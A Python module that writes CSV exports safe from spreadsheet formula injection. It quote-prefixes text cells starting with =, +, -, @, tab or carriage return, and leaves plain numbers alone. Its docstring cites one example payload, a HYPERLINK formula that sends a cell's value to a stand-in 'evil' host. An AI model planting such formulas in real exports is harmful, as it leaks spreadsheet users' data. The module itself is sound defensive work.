"""CSV that a spreadsheet opens as data, never as formulas: the one writer for every CSV the project makes.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``). Following OWASP
("CSV Injection"), such a *text* cell is written with a leading single quote, which spreadsheets
show as text. Numbers stay numbers (``-0.5`` in a float column is written as ``-0.5``), and so does
text that is just a plain number (``"-3"``, ``"+1.5e-3"``), which no spreadsheet evaluates.
Column names get the same treatment; lines end in ``\r\n`` (RFC 4180). Use ``csv_text``/``write_csv`` for any new CSV export.
"""

from __future__ import annotations

import io
import os
import re
from pathlib import Path

import pandas as pd

from .atomic import atomic_write_bytes

__all__ = ["FORMULA_START", "safe_cell", "safe_csv_frame", "csv_text", "write_csv"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula; else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are neutralised (numeric columns untouched)."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s) or isinstance(s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(safe_cell)
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_text(df: pd.DataFrame, **to_csv_kwargs) -> str:
    """``df.to_csv`` of the neutralised frame: no index, RFC 4180 ``\\r\\n`` line ends, so a cell holding
    a carriage return is quoted (with ``\\n`` line ends Python's csv writer leaves it bare and the row
    splits when read back)."""
    kw = {"index": False, "lineterminator": "\r\n", **to_csv_kwargs}
    if kw["index"]:  # index labels are cells too: make them a column so they are neutralised
        df, kw["index"] = df.reset_index(), False
    buf = io.StringIO()
    safe_csv_frame(df).to_csv(buf, **kw)
    return buf.getvalue()


def write_csv(df: pd.DataFrame, path: str | os.PathLike, **to_csv_kwargs) -> Path:
    """Atomically write the neutralised ``df`` as UTF-8 CSV to ``path``."""
    return atomic_write_bytes(path, csv_text(df, **to_csv_kwargs).encode("utf-8"))
